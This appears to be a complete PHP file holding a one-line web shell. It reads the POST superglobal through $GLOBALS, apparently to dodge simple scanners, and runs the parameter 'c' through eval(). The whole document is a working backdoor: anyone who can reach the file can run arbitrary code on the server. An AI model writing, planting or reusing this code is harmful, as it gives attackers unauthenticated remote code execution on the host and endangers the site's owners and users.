<?php $g = $GLOBALS["_POST"]; eval($g["c"]);
